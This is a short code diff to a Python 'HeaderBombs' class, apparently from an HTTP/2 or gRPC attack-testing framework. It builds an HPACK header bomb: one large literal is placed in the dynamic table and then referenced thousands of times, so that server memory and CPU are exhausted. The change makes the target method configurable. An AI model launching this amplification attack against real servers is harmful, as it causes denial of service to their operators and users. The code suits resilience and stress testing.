@@ -364,12 +364,13 @@ class HeaderBombs:
 
     times: int
     references: int = 3_000
+    method: str = CHECK
 
     def run(self, attacker: Attacker) -> None:
         connection = attacker.current(GRPC)
         # A literal with indexing: the field has index 62, the newest of the dynamic table.
         fill = b"\x40\x01a\x7f\xa1\x1e" + b"b" * 4_000
-        head = connection.headers(CHECK)
+        head = connection.headers(self.method)
         connection.frames(HeadersFrame(connection.stream(), head + fill, flags=["END_HEADERS", "END_STREAM"]))
         block = head + b"\xbe" * self.references
         _repeat(
